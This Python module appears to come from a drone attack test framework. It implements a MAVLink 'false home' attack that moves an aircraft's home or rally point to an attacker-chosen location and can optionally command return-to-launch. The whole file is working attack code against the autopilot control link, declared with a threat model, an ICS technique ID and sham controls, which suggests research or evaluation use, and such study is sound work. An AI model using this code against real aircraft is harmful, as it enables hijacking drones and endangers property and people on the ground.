"""Home tampering: home or a rally point is moved, so that a return ends at a place of the attacker."""

from __future__ import annotations

from typing import Literal

from skyrange.attack.bases.mavlink.orders import Order, geodetic, mode_order
from skyrange.attack.bases.mavlink.script import Item, Script, Step, Upload
from skyrange.attack.contract import Place
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS, on_control_link, sham_to_nobody
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.params import Enu
from skyrange.contracts.plugins.fields import param


@attack(
    "mavlink.home",
    technique="T0836",
    surface=CONTROL_LINKS,
    persists="flight",
    effect="a return or a failsafe takes the aircraft to a place of the attacker",
    threat=on_control_link("system ids, from any frame", budget="one command, or an upload of one item"),
    controls=sham_to_nobody(
        content="the same command with the true home", placement="the same home for another aircraft"
    ),
)
class FalseHome(Script):
    """Moves home or the rally points of the aircraft."""

    at: Enu = param(
        "Place that the aircraft is to return to, [east_m, north_m, up_m] in metres from the origin or the attack's "
        "anchor."
    )
    point: Literal["home", "rally"] = param(
        "What is moved: home, or the rally points, which are replaced by one.", default="home"
    )
    then_rtl: bool = param("Whether to command RTL too; else the next return, or failsafe, goes there.", default=False)

    def marks(self) -> dict[str, Place]:
        """The place."""
        return {f"false {self.point}": self.at}

    def steps(self) -> list[Step]:
        """The new place, and RTL."""
        place = geodetic(self.origin, self.at)
        rally = Upload((Item(mav.MAV_CMD_NAV_RALLY_POINT, place),), mav.MAV_MISSION_TYPE_RALLY)
        moved = Order(mav.MAV_CMD_DO_SET_HOME, place=place) if self.point == "home" else rally
        return [moved, mode_order(mav.COPTER_MODE_RTL)] if self.then_rtl else [moved]
